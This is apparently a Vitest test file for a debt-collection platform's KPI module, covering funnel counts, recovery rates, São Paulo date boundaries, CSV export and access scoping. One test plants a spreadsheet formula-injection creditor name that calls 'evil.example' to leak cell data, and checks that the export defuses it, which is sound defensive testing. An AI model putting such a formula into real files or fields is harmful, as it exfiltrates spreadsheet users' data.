import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, desc, eq, sql } from 'drizzle-orm';
import { DESTINATION } from '../support/factory';
import { closeDb, db } from '../../src/lib/server/db/client';
import { agreementDebts, agreements as agreementsTable, funnelEvents, installments, outbox, payments } from '../../src/lib/server/db/schema';
import type { AgreementStatus, FunnelStep } from '../../src/lib/server/db/schema';
import * as kpis from '../../src/lib/server/kpis';
import * as funnel from '../../src/lib/server/funnel';
import * as otp from '../../src/lib/server/auth/otp';
import * as agreements from '../../src/lib/server/agreements';
import * as offers from '../../src/lib/server/offers';
import { todayInSaoPaulo } from '../../src/lib/format/dates';
import * as factory from '../support/factory';

/**
 * The KPI figures on a dataset small enough to compute by hand, with rows on both sides of the
 * period's São Paulo midnights, another creditor of the agency and another agency.
 */

afterAll(() => closeDb());

const OCT: kpis.Period = { from: '2026-10-01', to: '2026-10-31' };
/** A São Paulo wall-clock time (UTC−3, no daylight saving since 2019). */
const sp = (local: string) => new Date(`${local}-03:00`);

type World = { agencyId: string; creditorId: string };
let seq = 0;

async function placedDebt(w: World, debtorId: string, principalCents: number, createdAt: string) {
	return factory.debt(w.creditorId, debtorId, { principalCents, createdAt: sp(createdAt) });
}

async function agreement(w: World, debtorId: string, debtIds: string[], createdAt: string, status: AgreementStatus) {
	const [a] = await db()
		.insert(agreementsTable)
		.values({
			code: `AC-KPI-${seq++}-${Math.random().toString(36).slice(2, 8)}`,
			creditorId: w.creditorId,
			debtorId,
			policyVersion: 1,
			status,
			kind: 'cash',
			updatedTotalCents: 1,
			discountCents: 0,
			totalCents: 1,
			installmentCount: 1,
			breakToleranceDays: 5,
			terms: {},
			createdAt: sp(createdAt)
		})
		.returning();
	await db().insert(agreementDebts).values(debtIds.map((debtId) => ({ agreementId: a.id, debtId, originalCents: 1, lateFeeCents: 0, interestCents: 0, updatedCents: 1 })));
	const [i] = await db()
		.insert(installments)
		.values({ agreementId: a.id, seq: 1, dueDate: '2026-10-30', amountCents: 1, txid: `KPI${seq++}${Math.random().toString(36).slice(2, 12)}`, nossoNumero: String(seq), ...DESTINATION })
		.returning();
	return { agreement: a, installmentId: i.id };
}

async function paid(installmentId: string, amountCents: number, at: string) {
	await db().insert(payments).values({ installmentId, amountCents, paidAt: sp(at), method: 'pix', source: 'webhook', externalId: `E2E${seq++}${Math.random()}` });
}

async function event(w: World, debtorId: string, step: FunnelStep, at: string, channel = 'portal') {
	await db().insert(funnelEvents).values({ agencyId: w.agencyId, creditorId: w.creditorId, debtorId, step, channel, at: sp(at) });
}

let A: World;
let B: World;
let csvA = '';

beforeAll(async () => {
	const agency = await factory.agency();
	const ca = await factory.creditor(agency.id);
	const cb = await factory.creditor(agency.id);
	A = { agencyId: agency.id, creditorId: ca.id };
	B = { agencyId: agency.id, creditorId: cb.id };
	const [p1, p2, p3, p4, p5] = await Promise.all([1, 2, 3, 4, 5].map(() => factory.debtor(agency.id)));

	// Placed in October at A: 1.000,00 + 2.000,00 + 400,00 + 300,00 (23:30 of the 31st is still October in São Paulo).
	const d1 = await placedDebt(A, p1.id, 100_000, '2026-10-01T12:00:00');
	const d2 = await placedDebt(A, p2.id, 200_000, '2026-10-10T12:00:00');
	const d3 = await placedDebt(A, p2.id, 50_000, '2026-09-20T12:00:00'); // September
	await placedDebt(A, p4.id, 70_000, '2026-11-01T00:30:00'); // November in São Paulo
	const d5 = await placedDebt(A, p3.id, 30_000, '2026-10-31T23:30:00'); // 02:30 UTC on Nov 1st, yet October in São Paulo
	const d6 = await placedDebt(A, p3.id, 40_000, '2026-10-05T12:00:00');

	// Agreements at A made in October: 10, 30 (its oldest debt is from Sept 20th) and 20 days after placement.
	const ag1 = await agreement(A, p1.id, [d1.id], '2026-10-11T12:00:00', 'active');
	const ag2 = await agreement(A, p2.id, [d2.id, d3.id], '2026-10-20T12:00:00', 'settled');
	const ag4 = await agreement(A, p3.id, [d6.id], '2026-10-25T12:00:00', 'broken');
	const ag3 = await agreement(A, p3.id, [d5.id], '2026-11-02T12:00:00', 'broken'); // November

	await paid(ag1.installmentId, 25_000, '2026-10-12T10:00:00');
	await paid(ag2.installmentId, 100_000, '2026-10-20T15:00:00');
	await paid(ag2.installmentId, 50_000, '2026-09-30T23:00:00'); // September in São Paulo (October in UTC)
	await paid(ag4.installmentId, 12_000, '2026-10-26T09:00:00');
	await paid(ag3.installmentId, 99_000, '2026-11-03T09:00:00'); // November

	// The funnel at A.
	await event(A, p1.id, 'identified', '2026-10-02T08:00:00');
	await event(A, p1.id, 'identified', '2026-10-03T08:00:00'); // the same person again counts once
	await event(A, p2.id, 'identified', '2026-10-09T08:00:00');
	await event(A, p3.id, 'identified', '2026-10-01T00:10:00');
	await event(A, p4.id, 'identified', '2026-09-30T23:50:00'); // September
	await event(A, p1.id, 'offers_viewed', '2026-10-02T08:05:00');
	await event(A, p2.id, 'offers_viewed', '2026-10-09T08:05:00');
	await event(A, p1.id, 'agreement', '2026-10-11T12:00:00', 'portal');
	await event(A, p2.id, 'agreement', '2026-10-20T12:00:00', 'portal');
	await event(A, p3.id, 'agreement', '2026-10-25T12:00:00', 'staff');
	await event(A, p1.id, 'first_payment', '2026-10-12T10:00:00');
	await event(A, p2.id, 'first_payment', '2026-10-20T15:00:00');
	await event(A, p2.id, 'settled', '2026-10-20T15:00:00');

	// B, same agency: one more identified debtor, a placed debt, a portal agreement and a payment.
	const b1 = await placedDebt(B, p5.id, 500_000, '2026-10-15T12:00:00');
	const bg = await agreement(B, p5.id, [b1.id], '2026-10-16T12:00:00', 'active');
	await paid(bg.installmentId, 50_000, '2026-10-16T13:00:00');
	await event(B, p5.id, 'identified', '2026-10-15T13:00:00');
	await event(B, p5.id, 'agreement', '2026-10-16T12:00:00', 'portal');

	// Another agency's activity never shows up.
	const other = await factory.world();
	await event({ agencyId: other.agency.id, creditorId: other.creditor.id }, other.debtor.id, 'identified', '2026-10-10T10:00:00');
});

describe('KPIs', () => {
	it('figures for one creditor equal the hand-computed values', async () => {
		const k = await kpis.compute(db(), A, OCT);
		expect(k.funnel.map((f) => [f.step, f.debtors])).toEqual([
			['identified', 3],
			['offers_viewed', 2],
			['agreement', 3],
			['first_payment', 2],
			['settled', 1]
		]);
		// Placed: 1.000 + 2.000 + 300 + 400 = 3.700,00; collected: 250 + 1.000 + 120 = 1.370,00.
		expect(k.recovery).toEqual({ collectedCents: 137_000, placedCents: 370_000, placedDebts: 4, rate: 137_000 / 370_000 });
		expect(k.agreements).toEqual({ total: 3, active: 1, settled: 1, kept: 2, broken: 1, cancelled: 0 });
		// (10 + 30 + 20) ÷ 3
		expect(k.daysToAgreement.agreements).toBe(3);
		expect(k.daysToAgreement.average).toBeCloseTo(20, 6);
		expect(k.digital).toEqual({ portal: 2, total: 3, share: 2 / 3 });
	});

	it('agency-wide figures add the other creditor and nothing of another agency', async () => {
		const k = await kpis.compute(db(), { agencyId: A.agencyId, creditorId: null }, OCT);
		expect(k.funnel[0]).toMatchObject({ step: 'identified', debtors: 4 });
		expect(k.recovery).toMatchObject({ collectedCents: 187_000, placedCents: 870_000, placedDebts: 5 });
		expect(k.agreements).toMatchObject({ total: 4, active: 2, kept: 3, broken: 1 });
		expect(k.daysToAgreement.average).toBeCloseTo((10 + 30 + 20 + 1) / 4, 6);
		expect(k.digital).toEqual({ portal: 3, total: 4, share: 3 / 4 });
	});

	it('the CSV has every figure: BOM, ; separator, decimal comma', async () => {
		const k = await kpis.compute(db(), A, OCT);
		csvA = kpis.toCsv(k, 'Lojas Aurora');
		expect(csvA.startsWith('\uFEFFindicador;valor\r\n')).toBe(true);
		const rows = Object.fromEntries(
			csvA
				.slice(1)
				.trimEnd()
				.split('\r\n')
				.map((l) => l.split(';'))
		);
		expect(rows).toMatchObject({
			'Período — início': '01/10/2026',
			'Período — fim': '31/10/2026',
			Credor: 'Lojas Aurora',
			'Funil — Identificaram-se (devedores)': '3',
			'Funil — Viram as ofertas (devedores)': '2',
			'Funil — Fizeram acordo (devedores)': '3',
			'Funil — Pagaram a 1ª parcela (devedores)': '2',
			'Funil — Quitaram (devedores)': '1',
			'Recuperado no período (R$)': '1370,00',
			'Colocado no período (R$)': '3700,00',
			'Dívidas colocadas no período': '4',
			'Taxa de recuperação (%)': '37,03',
			'Acordos feitos no período': '3',
			'Acordos cumpridos (em dia + quitados)': '2',
			'Acordos quebrados': '1',
			'Acordos cancelados': '0',
			'Dias médios até o acordo': '20,0',
			'Acordos pelo portal': '2',
			'Participação digital (%)': '66,67'
		});
	});

	it('the CSV never lets a creditor name run as a formula in the spreadsheet', async () => {
		const name = '=HYPERLINK("http://evil.example/?d="&B2;"Ver indicadores")';
		const c = await factory.creditor(A.agencyId, { displayName: name });
		// What the export route does: the name as scopeFor reads it, the figures, the file.
		const reach = (await kpis.scopeFor(db(), { agencyId: A.agencyId, creditorId: null }, c.id))!;
		expect(reach.creditorName).toBe(name);
		const figures = await kpis.compute(db(), reach.scope, OCT);
		expect(kpis.toCsv(figures, reach.creditorName)).toContain(`\r\nCredor;"'=HYPERLINK(""http://evil.example/?d=""&B2;""Ver indicadores"")"\r\n`);
		expect(kpis.toCsv(figures, '+55 11 3333-4444')).toContain(`\r\nCredor;'+55 11 3333-4444\r\n`);
		expect(kpis.toCsv(figures, '-1')).toContain(`\r\nCredor;'-1\r\n`);
		expect(kpis.toCsv(figures, '@SOMA(1;2)')).toContain(`\r\nCredor;"'@SOMA(1;2)"\r\n`);
	});

	it('scoping: a creditor manager sees only their creditor; another creditor or agency is out of reach', async () => {
		const manager = { agencyId: A.agencyId, creditorId: A.creditorId };
		expect(await kpis.scopeFor(db(), manager, null)).toMatchObject({ scope: { agencyId: A.agencyId, creditorId: A.creditorId } });
		expect(await kpis.scopeFor(db(), manager, B.creditorId)).toBeNull();
		const agencyStaff = { agencyId: A.agencyId, creditorId: null };
		expect(await kpis.scopeFor(db(), agencyStaff, null)).toMatchObject({ scope: { creditorId: null }, creditorName: 'Todos os credores' });
		expect(await kpis.scopeFor(db(), agencyStaff, B.creditorId)).toMatchObject({ scope: { creditorId: B.creditorId } });
		const stranger = await factory.agency();
		expect(await kpis.scopeFor(db(), { agencyId: stranger.id, creditorId: null }, A.creditorId)).toBeNull();
		expect(await kpis.scopeFor(db(), agencyStaff, 'nada')).toBeNull();
		const empty = await kpis.compute(db(), { agencyId: stranger.id, creditorId: null }, OCT);
		expect(empty.funnel.every((f) => f.debtors === 0)).toBe(true);
		expect(empty.recovery.rate).toBeNull();
		expect(empty.daysToAgreement.average).toBeNull();
		expect(empty.digital.share).toBeNull();
	});

	it('the period: default last 30 days, São Paulo dates, refusals in Portuguese', () => {
		expect(kpis.parsePeriod(null, null, '2026-11-23')).toEqual({ ok: true, period: { from: '2026-10-25', to: '2026-11-23' } });
		expect(kpis.parsePeriod('01/10/2026', '2026-10-31', '2026-11-23')).toEqual({ ok: true, period: OCT });
		expect(kpis.parsePeriod('2026-10-31', '2026-10-01', '2026-11-23')).toMatchObject({ ok: false, message: 'A data inicial vem depois da final.' });
		expect(kpis.parsePeriod('31/02/2026', null, '2026-11-23')).toMatchObject({ ok: false, message: expect.stringContaining('Data inválida') });
	});
});

describe('the funnel is fed by the portal', () => {
	it('identifying with the code records "identified" for the portal creditor; accepting records "agreement"; offers are counted once a day', async () => {
		const w = await factory.world();
		const asked = await otp.requestCode(db(), { agencyId: w.agency.id, creditorId: w.creditor.id, creditorName: w.creditor.displayName, document: w.debtor.document, ip: '198.51.100.77' });
		if (!asked.ok) throw new Error(asked.message);
		let code: string | undefined;
		for (let i = 0; i < 50 && !code; i++) {
			const [m] = await db().select().from(outbox).where(eq(outbox.agencyId, w.agency.id)).orderBy(desc(outbox.createdAt)).limit(1);
			code = m?.text.match(/\b(\d{6})\b/)?.[1];
			if (!code) await new Promise((r) => setTimeout(r, 50));
		}
		expect((await otp.verifyCode(db(), { challengeId: asked.challengeId, code: code!, ip: '198.51.100.77' })).ok).toBe(true);

		const viewed = { agencyId: w.agency.id, creditorId: w.creditor.id, debtorId: w.debtor.id, step: 'offers_viewed' as const };
		const views = await Promise.all([1, 2, 3].map(() => funnel.recordOncePerDay(db(), viewed)));
		expect(views.filter(Boolean)).toHaveLength(1);
		// A later view the same day finds it recorded.
		expect(await funnel.recordOncePerDay(db(), viewed)).toBe(false);

		const today = todayInSaoPaulo();
		const sel = await offers.forSelection(db(), { agencyId: w.agency.id, debtorId: w.debtor.id, debtIds: [w.debt.id], today });
		if (!sel.ok) throw new Error(sel.message);
		const accepted = await db().transaction((tx) =>
			agreements.accept(tx, {
				debtor: { id: w.debtor.id, agencyId: w.agency.id },
				debtIds: [w.debt.id],
				kind: 'cash',
				count: 1,
				firstDueDate: sel.set.firstDueDate,
				today
			})
		);
		expect(accepted.ok).toBe(true);

		const rows = await db()
			.select({ step: funnelEvents.step, channel: funnelEvents.channel, creditorId: funnelEvents.creditorId })
			.from(funnelEvents)
			.where(and(eq(funnelEvents.debtorId, w.debtor.id)))
			.orderBy(funnelEvents.id);
		expect(rows).toEqual([
			{ step: 'identified', channel: 'portal', creditorId: w.creditor.id },
			{ step: 'offers_viewed', channel: 'portal', creditorId: w.creditor.id },
			{ step: 'agreement', channel: 'portal', creditorId: w.creditor.id }
		]);
		const k = await kpis.compute(db(), { agencyId: w.agency.id, creditorId: null }, { from: today, to: today });
		expect(k.funnel.slice(0, 3).map((f) => f.debtors)).toEqual([1, 1, 1]);
		expect(k.digital.share).toBe(1);
		const [{ n }] = await db().select({ n: sql<number>`count(*)::int` }).from(funnelEvents).where(eq(funnelEvents.agencyId, w.agency.id));
		expect(n).toBe(3);
	});
});
